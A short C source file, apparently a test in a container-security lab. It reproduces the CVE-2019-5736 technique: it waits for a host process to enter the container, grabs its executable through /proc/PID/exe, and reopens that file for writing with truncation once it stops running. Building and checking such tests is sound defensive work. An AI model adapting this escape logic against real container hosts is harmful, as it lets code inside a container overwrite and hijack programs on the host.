/* Overwrites a program of the host that entered the container, through /proc/PID/exe (the shape of CVE-2019-5736). */
#include "common.h"
#include <dirent.h>
#include <time.h>

/* Waits for a process whose program is not ours and returns an O_PATH descriptor of that program. */
static int catch_visitor(void)
{
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			char path[300], comm[32] = {0};
			snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
			int fd = open(path, O_RDONLY);
			if (fd < 0 || read(fd, comm, sizeof(comm) - 1) <= 0)
				comm[0] = 0;
			if (fd >= 0)
				close(fd);
			if (strncmp(comm, "lab_visitor", 11))
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			fd = (int)lab_violate4("open", SYS_openat, AT_FDCWD, path, O_PATH, 0);
			closedir(proc);
			return fd;
		}
		if (proc)
			closedir(proc);
		usleep(1000);
	}
}

int main(void)
{
	char path[64];
	int out = -1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", catch_visitor());
	/* A running program cannot be written (ETXTBSY): wait until the visitor has left. */
	while ((out = open(path, O_WRONLY | O_TRUNC)) < 0 && errno == ETXTBSY)
		usleep(1000);
	if (out < 0)
		lab_die("open the host's program for writing");
	lab_mark_fd(out);
	return 0;
}
